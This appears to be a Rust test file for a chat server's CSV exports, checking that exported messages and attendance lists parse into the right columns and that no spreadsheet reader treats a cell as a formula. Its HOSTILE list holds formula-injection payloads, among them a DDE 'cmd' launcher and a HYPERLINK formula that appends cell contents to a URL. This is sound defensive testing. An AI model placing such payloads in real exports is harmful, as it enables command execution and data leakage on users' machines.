//! Exported tables as spreadsheets read them: the right columns, and no formula in any reader.

#![allow(clippy::unwrap_used, clippy::panic, reason = "a test fails by panicking")]

use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

use papo_common::{LogId, MemberId, Name};
use papo_server::clock::Now;
use papo_server::config::HistoryConfig;
use papo_server::history::{ExportKind, History, Job, Step};
use papo_server::room::effects::Record;
use papo_server::strings;
use proptest::prelude::*;
use tempfile::TempDir;

const AT: u64 = 1_700_000_000_000;
const STARTERS: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
/// Texts that no reader may calculate. The last ones, written as they are, are formulas to a gnumeric or `LibreOffice`
/// that separates at commas.
const HOSTILE: [&str; 24] = [
    "=1+1",
    "+55 11 9",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1;1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u{a0}=1+1",
    "oi;=1+1;fim",
    "oi; =HYPERLINK(\"http://10.0.0.9/?\"&A1;\"clique\")",
    "a\";\"=1+1",
    "a\"\n\"=1+1",
    "\"=1+1\"",
    "ação; -ana",
    "oi\t=1+1\tx",
    "oi,=1+1,x",
    "oi,\"=1+1\",x",
    "oi\n=1+1\nfim",
    "oi\r\n=1+1;=1+1,=2+2\r\nfim",
];

/// A stored history with one visit that ended, one that goes on, and these texts as they are, uncleaned.
fn history(folder: &Path, texts: &[&str]) -> History {
    let (path, start) = (folder.join("papo.db"), Instant::now());
    let keeping = HistoryConfig { path: Some(path.clone()), time: Duration::from_secs(86_400), size: 1 << 30 };
    let open = || History::open(&keeping, LogId::from_random(1), Now { instant: start, unix_ms: AT }).0;
    drop(open());
    let db = rusqlite::Connection::open(path).unwrap();
    for text in texts {
        db.execute("INSERT INTO messages (at, name, member, text) VALUES (?, 'João', 1, ?)", (AT as i64, text))
            .unwrap();
    }
    drop(db);
    let mut history = open();
    let came = |n: u8, name: &str, ip: &str| {
        let (id, addr) = (MemberId::from_random(n.into()), ip.parse().unwrap());
        Record::Joined { name: Name::parse(name).unwrap(), id, addr, at: AT, secret: None }
    };
    let went = Record::Left { id: MemberId::from_random(1), at: AT + 150_000 };
    history.commit(&[came(1, "João", "10.0.0.1:4000"), came(2, "-bia", "[fe80::2]:4000")], start).unwrap();
    history.commit(&[went], start + Duration::from_secs(150)).unwrap();
    history
}

fn export(history: &mut History, what: ExportKind, path: &Path) -> String {
    let mut export = Job::export(what, path, AT + 600_000, strings::EXPORT_LABELS).unwrap();
    while !matches!(history.run_job(&mut export, Instant::now() + Duration::from_secs(600)).unwrap(), Step::Done(_)) {}
    std::fs::read_to_string(path).unwrap()
}

/// A way of taking a table apart.
#[derive(Clone, Copy, Debug)]
struct Reader {
    separators: &'static [char],
    /// Whether a quote at a cell's beginning encloses it. Behind the closing one comes text, up to the next separator.
    knows_quotes: bool,
}

const EXCEL_PT_BR: Reader = Reader { separators: &[';'], knows_quotes: true };
const LIBREOFFICE: Reader = Reader { separators: &[';', ',', '\t'], knows_quotes: true };
const READERS: [Reader; 8] = [
    EXCEL_PT_BR,
    LIBREOFFICE,
    // Excel in English, and Python's csv as it comes.
    Reader { separators: &[','], knows_quotes: true },
    Reader { separators: &['\t'], knows_quotes: true },
    Reader { separators: &[';'], knows_quotes: false },
    Reader { separators: &[','], knows_quotes: false },
    Reader { separators: &['\t'], knows_quotes: false },
    Reader { separators: &[';', ',', '\t'], knows_quotes: false },
];

impl Reader {
    fn rows(self, table: &str) -> Vec<Vec<String>> {
        let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), String::new());
        let (mut is_enclosed, mut is_new) = (false, true);
        let mut characters = table.strip_prefix('\u{feff}').unwrap().chars().peekable();
        while let Some(character) = characters.next() {
            match character {
                '"' if is_enclosed && characters.next_if_eq(&'"').is_some() => cell.push('"'),
                '"' if is_enclosed => is_enclosed = false,
                _ if is_enclosed => cell.push(character),
                '"' if is_new && self.knows_quotes => is_enclosed = true,
                '\r' | '\n' => {
                    characters.next_if(|&next| character == '\r' && next == '\n');
                    row.push(std::mem::take(&mut cell));
                    rows.push(std::mem::take(&mut row));
                }
                _ if self.separators.contains(&character) => row.push(std::mem::take(&mut cell)),
                _ => cell.push(character),
            }
            is_new = !is_enclosed && (self.separators.contains(&character) || matches!(character, '\r' | '\n'));
        }
        if !cell.is_empty() || !row.is_empty() {
            row.push(cell);
            rows.push(row);
        }
        rows
    }
}

/// Whether a spreadsheet might calculate it, with the quotes stripped too; some strip blanks, but only before `=`.
fn is_formula(cell: &str) -> bool {
    let stripped = cell.trim_start_matches(|character: char| character.is_whitespace() || character == '"');
    cell.trim_start_matches('"').starts_with(STARTERS) || stripped.starts_with(['=', '＝'])
}

#[track_caller]
fn check(texts: &[&str]) {
    let folder = tempfile::tempdir().unwrap();
    let table = export(&mut history(folder.path(), texts), ExportKind::Messages, &folder.path().join("a.csv"));
    for reader in READERS {
        for cell in reader.rows(&table).iter().flatten() {
            assert!(!is_formula(cell), "{cell:?} by {reader:?} in {table}");
        }
    }
    for reader in [EXCEL_PT_BR, LIBREOFFICE] {
        let rows = reader.rows(&table);
        assert_eq!(rows.len(), texts.len() + 1);
        for (number, (row, text)) in rows[1..].iter().zip(texts).enumerate() {
            let [seq, at, who, said] = row.as_slice() else { panic!("{row:?}") };
            assert_eq!((seq.parse(), who.as_str()), (Ok(number + 1), "João"));
            assert!(jiff::civil::DateTime::strptime("%Y-%m-%d %H:%M:%S", at).is_ok(), "{at}");
            assert_eq!(said.replace('\'', ""), text.replace('\'', ""), "nothing but guards is added");
        }
    }
}

#[test]
fn no_reader_finds_a_formula() {
    check(&HOSTILE);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn no_reader_finds_a_formula_in_anything(
        texts in prop::collection::vec("([=+@＝＋－＠-]|[;,\"'\t\r\n |]|[a1ç]){1,12}", 1..20),
    ) {
        check(&texts.iter().map(String::as_str).collect::<Vec<_>>());
    }
}

#[test]
fn ordinary_texts_stay_as_they_were_said() {
    let texts = ["ação é à, não?", "oi, @bia", "3, -2; 1 = 1", "diz \"oi\"; e vai", "1,5", "a-b=c", "linha\ngente"];
    let folder = tempfile::tempdir().unwrap();
    let table = export(&mut history(folder.path(), &texts), ExportKind::Messages, &folder.path().join("a.csv"));
    let said: Vec<String> = EXCEL_PT_BR.rows(&table).into_iter().map(|row| row[3].clone()).collect();
    assert_eq!(said[0], "Texto");
    assert_eq!(said[1..], texts);
}

#[test]
fn an_attendance_list_has_five_columns() {
    let folder = tempfile::tempdir().unwrap();
    let table = export(&mut history(folder.path(), &[]), ExportKind::Attendance, &folder.path().join("a.csv"));
    for reader in [EXCEL_PT_BR, LIBREOFFICE] {
        let rows = reader.rows(&table);
        let titles: Vec<&str> = rows[0].iter().filter_map(|title| title.split(" (UTC").next()).collect();
        assert_eq!(titles, ["Nome", "Endereço", "Entrada", "Saída", "Minutos"]);
        let [joao, bia] = &rows[1..] else { panic!("{table}") };
        let date = |cell: &str| jiff::civil::DateTime::strptime("%Y-%m-%d %H:%M:%S", cell).unwrap();
        assert_eq!((&*joao[0], &*joao[1], &*joao[4]), ("João", "10.0.0.1:4000", "2"));
        assert_eq!(date(&joao[3]).duration_since(date(&joao[2])).as_secs(), 150);
        assert_eq!((&*bia[0], &*bia[1], &*bia[3], &*bia[4]), ("'-bia", "[fe80::2]:4000", "", "10"));
    }
}

/// Type and value of each cell that `LibreOffice` reads from a table and that is not empty. No cell may be a formula.
/// `filter` holds the numbers of its CSV filter: separators, quote, UTF-8, first line, columns, language, …
#[track_caller]
fn in_libreoffice(folder: &TempDir, csv: &str, filter: &str) -> Vec<(String, String)> {
    let (path, csv) = (folder.path(), folder.path().join(csv));
    let run = Command::new("soffice")
        .arg(format!("-env:UserInstallation=file://{}/profile", path.display()))
        .args(["--headless", "--convert-to", "fods", &format!("--infilter=Text - txt - csv (StarCalc):{filter}")])
        .arg("--outdir")
        .args([path, &csv])
        .output();
    let output = run.unwrap_or_else(|error| panic!("LibreOffice's `soffice` is wanted here: {error}"));
    let page = std::fs::read_to_string(csv.with_extension("fods")).unwrap_or_else(|_| panic!("{output:?}"));
    assert!(!page.contains("table:formula="), "{filter}: {page}");
    let attribute =
        |cell: &str, name: &str| Some(cell.split_once(&format!(" {name}=\""))?.1.split('"').next()?.to_owned());
    let cells = page.split("<table:table-cell").skip(1).filter_map(|cell| {
        let kind = attribute(cell.split('>').next()?, "office:value-type")?;
        let text = cell.split("<text:p>").skip(1).filter_map(|line| line.split("</text:p>").next());
        let text = text.collect::<Vec<_>>().join("\n");
        let value =
            ["office:date-value", "office:value"].iter().find_map(|name| attribute(cell.split('>').next()?, name));
        Some((kind, value.unwrap_or(text)))
    });
    cells.collect()
}

/// `cargo test -p papo-server --test spreadsheet -- --ignored`, on a machine with `LibreOffice` Calc.
#[test]
#[ignore = "wants LibreOffice: cargo test -p papo-server --test spreadsheet -- --ignored"]
fn libreoffice_reads_dates_and_numbers_and_calculates_nothing() {
    let folder = tempfile::tempdir().unwrap();
    let mut history = history(folder.path(), &HOSTILE);
    export(&mut history, ExportKind::Messages, &folder.path().join("m.csv"));
    export(&mut history, ExportKind::Attendance, &folder.path().join("p.csv"));
    // In pt-BR and in English; special numbers, which dates are, are to be found; formulas are to be calculated.
    for language in [1046, 1033] {
        for separators in ["59", "59/44", "59/44/9"] {
            let filter = format!("{separators},34,76,1,,{language},false,true,false,false,false,-1,true");
            let cells = in_libreoffice(&folder, "m.csv", &filter);
            let row = ["float", "date", "string", "string"];
            let kinds: Vec<&str> = cells.iter().map(|(kind, _)| kind.as_str()).collect();
            assert_eq!(kinds[..4], ["string"; 4]);
            assert_eq!(kinds[4..], row.repeat(HOSTILE.len()), "{filter}: {cells:?}");
            let cells = in_libreoffice(&folder, "p.csv", &filter);
            let kinds: Vec<&str> = cells.iter().map(|(kind, _)| kind.as_str()).collect();
            assert_eq!(kinds[..5], ["string"; 5]);
            assert_eq!(kinds[5..], ["string", "string", "date", "date", "float", "string", "string", "date", "float"]);
            assert_eq!((&*cells[1].1, &*cells[5].1, &*cells[9].1), ("Endereço", "João", "2"));
            assert!(cells[7].1.starts_with("2023-11-1"), "{cells:?}");
        }
        // Wrong separators, no quotes, stripped blanks: the cells are a mess, but none is a formula.
        for filter in ["44,34,76,1", "9,34,76,1", "59,,76,1", "44/59,,76,1"] {
            for strip in [false, true] {
                let filter = format!("{filter},,{language},false,true,false,false,{strip},-1,true");
                in_libreoffice(&folder, "m.csv", &filter);
            }
        }
    }
}
